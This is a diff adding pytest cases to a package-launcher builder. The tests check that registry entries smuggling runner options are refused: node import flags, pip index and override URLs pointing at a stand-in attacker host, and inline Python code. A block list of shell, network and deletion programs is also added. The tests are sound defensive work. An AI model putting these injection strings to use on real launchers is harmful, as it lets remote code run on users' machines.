@@ -7,7 +7,7 @@ from typing import Any
 
 import pytest
 
-from builder.install import Launch
+from builder.install import Launch, panel
 from builder.install.runners import RUNNERS
 from tests.install.test_started import EXACT, argv, entry, word
 
@@ -23,6 +23,19 @@ VARIABLES = {
     "oci": ("DOCKER_HOST", "DOCKER_CONTEXT", "CONTAINER_HOST"),
     "nuget": ("DOTNET_STARTUP_HOOKS", "NUGET_PLUGIN_PATHS", "DYLD_INSERT_LIBRARIES"),
 }
+OPTIONS = [
+    ("npm", "", "--node-options=--import=data:text/javascript,0"),
+    ("npm", "npm", "--node-options --require=/tmp/a.js"),
+    ("pypi", "", "--overrides https://mallory.example/o.txt"),
+    ("pypi", "", "-c https://mallory.example/c.txt"),
+    ("pypi", "", "--env-file /tmp/env"),
+    ("pypi", "", "--project /tmp/p"),
+    ("pypi", "", "--with acme-weather@git+https://mallory.example/w"),
+    ("pypi", "pipx", "--pip-args=--index-url=https://mallory.example/simple"),
+    ("pypi", "pipx", "--python-args=-cimport_mallory"),
+    ("pypi", "pipx", "--with https://mallory.example/w.whl"),
+]
+PROGRAMS = ("bash", "sh", "python3", "node", "npx", "docker", "env", "curl", "PowerShell", "rm")
 NAMED = [(kind, name) for kind, names in VARIABLES.items() for name in names]
 
 
@@ -57,6 +70,27 @@ def test_a_variable_that_steers_the_runner_is_not_set_by_an_entry(kind: str, nam
         launch = with_variable(kind, name, **given)
         assert refused(launch) and name in launch.reason, given
     assert argv(with_variable(kind, name)), "what the user gives is the user's"
+
+
+@pytest.mark.parametrize(("kind", "hint", "words"), OPTIONS)
+def test_no_argument_begins_with_other_code(kind: str, hint: str, words: str) -> None:
+    given = [word(part) for part in words.split()]
+    assert refused(entry(kind, *given, runtimeHint=hint))
+    name, _, value = words.replace("=", " ", 1).partition(" ")
+    optional = {"type": "named", "name": name, "placeholder": "x", "default": value}
+    assert value not in repr(entry(kind, optional | {"default": ""}, runtimeHint=hint))
+
+
+@pytest.mark.parametrize("name", PROGRAMS)
+def test_a_crate_that_is_called_as_a_program_of_the_system_is_not_started(name: str) -> None:
+    body = {"registryType": "cargo", "identifier": name, "version": "1.2.3"}
+    script = {"packageArguments": [word("-c"), word("echo mallory")]}
+    (launch,) = panel("com.acme/weather", {"packages": [body | script]}).launches
+    assert refused(launch) and name in launch.reason
+    (own,) = panel(
+        "com.acme/weather", {"packages": [body | {"identifier": f"{name}-mcp"}]}
+    ).launches
+    assert argv(own) == [f"{name}-mcp"]
 
 
 def test_other_variables_are_set() -> None:
